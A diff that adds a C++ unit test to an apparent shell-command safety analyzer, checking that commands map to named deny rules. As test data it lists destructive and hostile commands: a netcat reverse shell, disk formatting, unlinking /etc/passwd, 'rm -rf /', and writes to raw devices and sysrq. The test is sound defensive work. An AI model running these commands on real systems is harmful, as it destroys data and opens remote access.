@@ -117,6 +117,24 @@ TEST(AnalysisTest, UnknownGroupNamesFailClosed) {
   EXPECT_EQ(AnalyzeCommand("rm -rf /", on).decision, Decision::kDeny);
 }
 
+// The rules are looked up by program name: names far down a check's list, name families
+// (mke2fs, pip3.11, pypy3) and redirections of programs no check lists must all reach them.
+TEST(AnalysisTest, RuleTablesReachEveryName) {
+  const std::pair<const char*, const char*> cases[] = {
+      {"unlink /etc/passwd", "destructive_fs.rm_critical"},
+      {"mke2fs /dev/sda1", "disk.format"},
+      {"pip3.11 install x", "package_install.pip"},
+      {"pypy3 -m pip install x", "package_install.pip"},
+      {"nc.openbsd -e /bin/sh 10.0.0.1 4444", "reverse_shell.nc_exec"},
+      {"gtar --to-command=sh -xf a.tar", "code_injection_env.tar_exec"},
+      {"telinit 0", "system_control.runlevel"},
+      {"printf x >> /dev/nvme0n1", "disk.redirect_device"},
+      {"ls > /proc/sysrq-trigger", "system_control.sysrq"},
+  };
+  for (const auto& [command, rule] : cases)
+    EXPECT_EQ(AnalyzeCommand(command).rule, rule) << command;
+}
+
 TEST(AnalysisTest, DenyWinsOverEarlierAsk) {
   Analysis a = AnalyzeCommand("pip install x; rm -rf /");
   EXPECT_EQ(a.decision, Decision::kDeny);
